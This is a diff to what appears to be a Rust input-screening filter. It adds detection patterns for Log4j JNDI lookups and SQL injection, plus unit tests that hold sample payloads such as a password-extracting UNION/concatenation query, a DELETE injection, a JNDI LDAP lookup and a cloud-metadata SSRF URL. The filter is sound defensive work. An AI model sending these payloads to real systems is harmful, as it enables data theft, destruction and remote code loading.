@@ -59,7 +59,12 @@ const TRAVERSAL: [&str; 10] = [
     "file://",
     "web-inf/",
 ];
-const COMMAND: [&str; 18] = [
+const COMMAND: [&str; 23] = [
+    "${jndi:",
+    "${lower:",
+    "${upper:",
+    "${env:",
+    "${::-",
     "/usr/bin/",
     "<!--#exec",
     ";whoami",
@@ -85,7 +90,12 @@ const RUN: [&str; 16] = [
     "netstat", "wget", "curl", "nc", "echo",
 ];
 /// Parts of SQL that stand in no other text.
-const SQL_ALONE: [&str; 16] = [
+const SQL_ALONE: [&str; 21] = [
+    "union table ",
+    "union values",
+    "except select",
+    "intersect select",
+    "||(select ",
     " and (select ",
     " or (select ",
     "=(select ",
@@ -129,7 +139,10 @@ const FORGERY: [&str; 8] = [
 /// What begins a comment of SQL.
 const COMMENT: &str = "\x2d-";
 /// Words of SQL that are words of other languages too: they count right after a character that ends a value.
-const SQL_BESIDE: [&str; 10] = [
+const SQL_BESIDE: [&str; 13] = [
+    "delete from ",
+    "truncate table ",
+    "||(",
     "or ",
     "and ",
     "order by ",
@@ -183,11 +196,41 @@ fn goes_on_in_a_shell(value: &str) -> bool {
 
 /// In lower case, with every run of blanks and every comment of SQL as one blank.
 fn one_spaced(value: &str) -> String {
-    let value = value.to_ascii_lowercase().replace("/**/", " ");
+    let value = without_comments(&value.to_ascii_lowercase());
     let words: Vec<&str> = value.split_whitespace().collect();
     let spaced = words.join(" ");
     // Blanks at the ends are a part of some words above.
     format!(" {spaced} ")
+}
+
+/// Without comments of SQL; what MySQL reads of them, `/*!50000union*/`, stays.
+fn without_comments(value: &str) -> String {
+    let (mut kept, mut rest) = (String::with_capacity(value.len()), value);
+    while let Some((before, after)) = rest.split_once("/*") {
+        kept.push_str(before);
+        kept.push(' ');
+        if let Some(read) = after.strip_prefix('!') {
+            rest = read.trim_start_matches(|c: char| c.is_ascii_digit());
+        } else if let Some((_, behind)) = after.split_once("*/") {
+            rest = behind;
+        } else {
+            // A comment that is not closed takes in the rest of the statement, and says that it was meant to.
+            kept.push_str("/*");
+            rest = after;
+        }
+    }
+    kept.push_str(rest);
+    kept.replace("*/", " ")
+}
+
+/// Whether a value has a mark that SQL reads as its own: what is then looked for in what databases ran.
+pub fn marks_sql(value: &str) -> bool {
+    let marks = [b'\'', b'"', b';', b'`'];
+    value.len() >= 4
+        && (value.bytes().any(|b| marks.contains(&b))
+            || [COMMENT, "/*", "||"]
+                .iter()
+                .any(|mark| value.contains(mark)))
 }
 
 /// Whether a character that ends a value is followed by a word of SQL: `' or`, `);--`. A name such as O'Brien goes on in
@@ -199,7 +242,7 @@ fn goes_on_in_sql(value: &str) -> bool {
         let is_apart = rest.len() < value.len() - at - end.len() || end != "'";
         SQL_BESIDE
             .iter()
-            .any(|word| rest.starts_with(word) && (is_apart || word.starts_with(['-', '#'])))
+            .any(|word| rest.starts_with(word) && (is_apart || word.starts_with(['-', '#', '|'])))
     })
 }
 
@@ -239,6 +282,14 @@ mod tests {
             ("&&+|+dir c:", Meant::Command),
             (";netstat -a;", Meant::Command),
             ("7 AND (SELECT 1)", Meant::Sql),
+            ("1'; DELETE FROM voters", Meant::Sql),
+            ("1'||(SELECT password FROM users LIMIT 1)||'", Meant::Sql),
+            ("1' UNION TABLE users", Meant::Sql),
+            ("1' EXCEPT SELECT 1", Meant::Sql),
+            ("1'/*!50000UNION*/ /*!50000SELECT*/ 1", Meant::Sql),
+            ("1/* x */union/* y */select 1", Meant::Sql),
+            ("${jndi:ldap://x/a}", Meant::Command),
+            ("${${lower:j}ndi:ldap://x/a}", Meant::Command),
             ("id[$ne]=1", Meant::Operator),
             ("http://169.254.169.254/latest/meta-data", Meant::Forgery),
         ] {
@@ -258,6 +309,9 @@ mod tests {
             "cats & dogs",
             "id & type",
             "Smith; Net worth",
+            "Trade union (London) table tennis",
+            "Delete from list; please",
+            "(Old) except Mondays",
             "x@y.org",
             "1",
         ] {
